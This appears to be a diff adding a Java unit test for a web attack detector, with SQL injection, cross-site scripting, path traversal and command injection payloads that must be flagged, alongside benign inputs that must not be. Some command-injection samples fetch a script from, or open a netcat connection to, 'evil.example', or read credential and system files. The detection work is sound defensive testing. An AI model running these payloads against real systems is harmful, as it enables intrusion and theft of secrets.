@@ -1,0 +1,60 @@
+package io.perimeter.analyzer.findings;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.perimeter.analyzer.findings.AttackPatterns.Source;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** The attack patterns: payloads that must match, and everyday values that must not. */
+class AttackPatternsTest {
+
+    @ParameterizedTest
+    @ValueSource(strings = {"' or 1=1--", "admin'--", "x' OR 'a'='a", "\" or \"\"=\"", "1 or 1=1", "1' and 1=2 union select null,version()--",
+            "1 UNION ALL SELECT username, password FROM users", "1;--", "1; DROP TABLE users", "1' AND SLEEP(5)#",
+            "1)) or benchmark(10000000,md5(1))#", "'; waitfor delay '0:0:5'--", "1 union/**/select 1",
+            "1' and extractvalue(1,concat(0x7e,@@version))--", "x' or username like '%", "%27%20OR%201%3D1--"})
+    void sqlInjection(String value) {
+        assertThat(AttackPatterns.detect(value, Source.QUERY)).contains(RuleId.ATTACK_SQL_INJECTION);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>",
+            "\" onmouseover=\"alert(1)", "javascript:alert(document.domain)", "<body onload=fetch('//x')>",
+            "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "x\"><ScRiPt>prompt(1)</sCrIpT>", "data:text/html;base64,PHNjcmlwdD4="})
+    void crossSiteScripting(String value) {
+        assertThat(AttackPatterns.detect(value, Source.QUERY)).contains(RuleId.ATTACK_XSS);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"../../etc/passwd => QUERY", "..\\..\\windows\\win.ini => QUERY",
+            "%2e%2e%2f%2e%2e%2fetc%2fpasswd => QUERY", "..%2f..%2fboot.ini => QUERY", "/static/../app.config => PATH",
+            "/files/%252e%252e/%252e%252e/secret => PATH", "/proc/self/environ => BODY", "....//....//etc/passwd => QUERY",
+            "C:\\Windows\\System32\\drivers\\etc\\hosts => BODY", "../../../.env => BODY"})
+    void pathTraversal(String value, Source source) {
+        assertThat(AttackPatterns.detect(value, source)).contains(RuleId.ATTACK_PATH_TRAVERSAL);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"x;cat /etc/passwd => QUERY", "127.0.0.1 | id => QUERY", "a && whoami => BODY", "$(id) => BODY",
+            "`id` => QUERY", "file.txt; curl http://evil.example/x.sh => BODY", "x | nc evil.example 4444 => QUERY",
+            "1;sleep 10 => QUERY", "() { :; }; /bin/bash -c 'id' => HEADER", "x;bash -c 'id' => BODY", "a%3Bls -la%3B => QUERY",
+            "test$(sleep 5) => QUERY"})
+    void commandInjection(String value, Source source) {
+        assertThat(AttackPatterns.detect(value, source)).contains(RuleId.ATTACK_COMMAND_INJECTION);
+    }
+
+    @ParameterizedTest
+    @CsvSource(delimiterString = " => ", quoteCharacter = '^', value = {"O'Brien => QUERY", "Rock 'n' roll => BODY", "D'Angelo and O'Neil => BODY",
+            "I'm here, or am I? => BODY", "Tom & Jerry => BODY", "Please select one or more items from the list => BODY",
+            "release-1.2..1.3 => QUERY", "/api/v1..2/items => PATH", "see ../docs for more => QUERY", "../images/logo.png => BODY",
+            "2+2=4 => QUERY", "50% off today => QUERY", "color: '#fff' => BODY", "\"name\";\"email\";\"phone\" => BODY",
+            "cats; catalog; category => BODY", "Use `ls` to list files => BODY", "JavaScript: The Good Parts => BODY",
+            "The onload event fires once => BODY", "a <b>bold</b> move => BODY", "x = 1 and y = 2 => BODY",
+            "https://example.com/path?x=1&y=2 => QUERY", "user@example.com => QUERY", "price>=10 => QUERY",
+            "sleep well; see you => BODY", "id=5;name=pat => QUERY", "#!/usr/bin/env python => BODY"})
+    void everydayValuesAreNotAttacks(String value, Source source) {
+        assertThat(AttackPatterns.detect(value, source)).as(value).isEmpty();
+    }
+}
